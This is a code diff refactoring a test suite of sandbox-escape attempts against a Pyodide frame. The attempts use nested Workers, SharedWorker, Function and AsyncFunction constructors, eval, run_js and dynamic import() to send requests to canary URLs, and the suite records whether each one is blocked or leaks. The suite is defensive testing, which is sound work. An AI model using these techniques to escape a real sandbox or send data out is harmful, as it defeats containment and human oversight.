@@ -90,6 +90,36 @@ export function attackCell(attack: Attack): string {
 // A nested worker's script: report back whether its own fetch got through.
 const NESTED_WORKER_JS = `fetch(URL_HERE, {method: 'POST', body: 'x'}).then(r => postMessage('ok:' + r.status), e => postMessage('err:' + e))`;
 
+// The end of a nested-worker attack (its worker is w): leaked only if the worker's own fetch got through.
+const AWAIT_NESTED_WORKER = `got = []
+w.addEventListener("message", create_proxy(lambda e: got.append(str(e.data))))
+w.addEventListener("error", create_proxy(lambda e: got.append("error event")))
+await poll(lambda: got, 2.0)
+if not any(g.startswith("ok:") for g in got):
+    raise Blocked("nested worker said " + repr(got))
+leaked(ATTACK, got)`;
+
+/** An attack that needs code compiled from a string: the frame's policy refuses it with an EvalError. */
+function evalRefused(name: string, body: string): Attack {
+  return { name, outcome: "blocked", error: /EvalError/, body };
+}
+
+/**
+ * Takes a Function-like constructor (`ctor`, after `imports`), compiles `source` with it and
+ * calls the result on the canary URL for `path`: refused with an EvalError.
+ */
+function constructorAttack(name: string, imports: string, ctor: string, source: string, path: string): Attack {
+  const [ctorName] = ctor.split(" = ");
+  return evalRefused(
+    name,
+    `
+${imports ? `${imports}\n` : ""}${ctor}
+f = ${ctorName}("u", ${JSON.stringify(source)})
+await within(f(url(${JSON.stringify(path)})))
+leaked(ATTACK)`,
+  );
+}
+
 export const ATTACKS: Attack[] = [
   {
     name: "js.fetch",
@@ -275,13 +305,7 @@ leaked(ATTACK)`,
     body: `
 src = ${JSON.stringify(NESTED_WORKER_JS)}.replace("URL_HERE", json.dumps(url("worker-data")))
 w = js_get("Worker").new("data:text/javascript," + js.encodeURIComponent(src))
-got = []
-w.addEventListener("message", create_proxy(lambda e: got.append(str(e.data))))
-w.addEventListener("error", create_proxy(lambda e: got.append("error event")))
-await poll(lambda: got, 2.0)
-if not any(g.startswith("ok:") for g in got):
-    raise Blocked("nested worker said " + repr(got))
-leaked(ATTACK, got)`,
+${AWAIT_NESTED_WORKER}`,
   },
   {
     name: "nested Worker from a blob: URL",
@@ -290,13 +314,7 @@ leaked(ATTACK, got)`,
 src = ${JSON.stringify(NESTED_WORKER_JS)}.replace("URL_HERE", json.dumps(url("worker-blob")))
 blob_url = js.URL.createObjectURL(js.Blob.new(to_js([src]), obj(type="text/javascript")))
 w = js_get("Worker").new(blob_url, obj(type="module"))
-got = []
-w.addEventListener("message", create_proxy(lambda e: got.append(str(e.data))))
-w.addEventListener("error", create_proxy(lambda e: got.append("error event")))
-await poll(lambda: got, 2.0)
-if not any(g.startswith("ok:") for g in got):
-    raise Blocked("nested worker said " + repr(got))
-leaked(ATTACK, got)`,
+${AWAIT_NESTED_WORKER}`,
   },
   {
     name: "SharedWorker from a data: URL",
@@ -307,53 +325,40 @@ js_get("SharedWorker").new("data:text/javascript," + js.encodeURIComponent(src))
 await asyncio.sleep(0.5)
 leaked(ATTACK, "constructed")`,
   },
-  {
-    name: "Function constructor via js.setTimeout.constructor",
-    outcome: "blocked",
-    error: /EvalError/,
-    body: `
-F = js.setTimeout.constructor
-f = F("u", "return (self.fetch || fetch)(u, {method: 'POST'})")
-await within(f(url("function-ctor")))
-leaked(ATTACK)`,
-  },
-  {
-    name: "Function constructor via the host bridge (_rlm_host.call.constructor)",
-    outcome: "blocked",
-    error: /EvalError/,
-    body: `
-import _rlm_host
-F = _rlm_host.call.constructor
-f = F("u", "return import(u)")
-await within(f(url("bridge-ctor.js")))
-leaked(ATTACK)`,
-  },
-  {
-    name: "js.eval",
-    outcome: "blocked",
-    error: /EvalError/,
-    body: `
+  constructorAttack(
+    "Function constructor via js.setTimeout.constructor",
+    "",
+    "F = js.setTimeout.constructor",
+    "return (self.fetch || fetch)(u, {method: 'POST'})",
+    "function-ctor",
+  ),
+  constructorAttack(
+    "Function constructor via the host bridge (_rlm_host.call.constructor)",
+    "import _rlm_host",
+    "F = _rlm_host.call.constructor",
+    "return import(u)",
+    "bridge-ctor.js",
+  ),
+  evalRefused(
+    "js.eval",
+    `
 js.eval("new EventSource('" + url("eval") + "')")
 leaked(ATTACK)`,
-  },
-  {
-    name: "pyodide.code.run_js (eval)",
-    outcome: "blocked",
-    error: /EvalError/,
-    body: `
+  ),
+  evalRefused(
+    "pyodide.code.run_js (eval)",
+    `
 from pyodide.code import run_js
 await within(run_js("fetch(" + json.dumps(url("run-js")) + ")"))
 leaked(ATTACK)`,
-  },
-  {
-    name: "dynamic import() of a URL via run_js",
-    outcome: "blocked",
-    error: /EvalError/,
-    body: `
+  ),
+  evalRefused(
+    "dynamic import() of a URL via run_js",
+    `
 from pyodide.code import run_js
 mod = await within(run_js("import(" + json.dumps(url("dynamic-import.js")) + ")"))
 leaked(ATTACK, mod)`,
-  },
+  ),
   {
     name: "setTimeout with a string of code",
     outcome: "sent",
@@ -659,24 +664,18 @@ if not got:
     raise Blocked("no getter left on the prototype")
 leaked(ATTACK, got)`,
   },
-  {
-    name: "AsyncFunction constructor via an async Pyodide API",
-    outcome: "blocked",
-    error: /EvalError/,
-    body: `
-import pyodide_js
-AsyncFunction = pyodide_js.loadPackage.constructor
-f = AsyncFunction("u", "return (await import(u)).default")
-await within(f(url("async-ctor.js")))
-leaked(ATTACK)`,
-  },
-  {
-    name: "Function constructor taken from the global (js.Function)",
-    outcome: "blocked",
-    error: /EvalError/,
-    body: `
+  constructorAttack(
+    "AsyncFunction constructor via an async Pyodide API",
+    "import pyodide_js",
+    "AsyncFunction = pyodide_js.loadPackage.constructor",
+    "return (await import(u)).default",
+    "async-ctor.js",
+  ),
+  evalRefused(
+    "Function constructor taken from the global (js.Function)",
+    `
 f = js.Function.new("u", "return import(u)")
 await within(f(url("global-function.js")))
 leaked(ATTACK)`,
-  },
+  ),
 ];
